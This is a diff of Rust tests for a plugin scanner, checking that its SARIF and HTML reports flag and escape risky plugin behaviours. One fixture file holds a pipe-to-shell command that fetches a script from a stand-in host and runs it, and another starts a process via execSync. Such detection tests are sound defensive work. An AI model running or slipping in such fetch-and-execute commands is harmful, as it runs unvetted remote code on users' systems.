@@ -66,6 +66,12 @@ fn sarif_has_findings_and_refusals_and_holds_to_the_schema() {
         assert_eq!(rules[at]["id"], one["ruleId"]);
         assert!(!rules[at]["help"]["text"].as_str().unwrap().is_empty(), "{}", one["ruleId"]);
     }
+    assert_eq!(found["properties"]["role"], "executed");
+    let behaviors = run["properties"]["plugward/behaviors"].as_object().unwrap();
+    assert_eq!(behaviors.keys().collect::<Vec<_>>(), ["plugins/bad"]);
+    let first = &behaviors["plugins/bad"]["process"][0];
+    assert_eq!((&first["uri"], &first["line"]), (&"plugins/bad/a%20b.js".into(), &1.into()));
+    assert_eq!(first["role"], "executed");
     assert_eq!(run["invocations"][0]["exitCode"], 6);
     let again = home.run(&["check", "--format", "sarif", "plugins"]);
     let second: Value = serde_json::from_slice(&again.stdout).unwrap();
@@ -87,9 +93,28 @@ fn html_is_one_page_that_shows_text_of_a_plugin_as_text() {
     for part in ["plugins/bad", "plugins/good", "scan/danger", "sh/pipe-to-shell", "1 load", "1 refuse"] {
         assert!(page.contains(part), "{part}");
     }
+    let process = "<tr><td><code>process</code><td>starts programs<td><code>a b.js:1</code><td class=\"soft\">executed\n";
+    assert_eq!(page.matches(process).count(), 1, "{page}");
+    assert!(page.contains("<b class=\"danger\">danger</b> <code>sh/pipe-to-shell</code>"), "{page}");
+    assert!(page.contains("</code> <span class=\"soft\">executed</span>"), "{page}");
     // What does not load is open, what loads is not.
     assert_eq!((page.matches("<details open>").count(), page.matches("<details>").count()), (1, 1));
     assert_eq!(page.matches("<details").count(), page.matches("</details>").count());
+}
+
+#[test]
+fn html_escapes_the_path_of_a_behavior_and_says_suspicious() {
+    let home = plugins();
+    home.write("plugins/bad/<b>.sh", "bash -c 'curl -s https://x.example/i | sh'\n");
+    home.write("plugins/bad/a b.js", "require('child_process').execSync('id');\n");
+    let page = String::from_utf8(home.run(&["check", "--format", "html", "plugins"]).stdout).unwrap();
+    assert!(page.contains("<td><code>&lt;b&gt;.sh:1</code>"), "{page}");
+    assert!(!page.contains("<b>.sh"), "{page}");
+    let found = "<b class=\"warning\">suspicious</b> <code>sh/pipe-to-shell</code> <code>&lt;b&gt;.sh:1:";
+    assert!(page.contains(found), "{page}");
+    // Line breaks of messages are kept, not shown as escapes.
+    assert!(!page.contains("\\n"), "{page}");
+    assert!(!page.contains(">warning</b>") && !page.contains(">info</b>"), "{page}");
 }
 
 #[test]
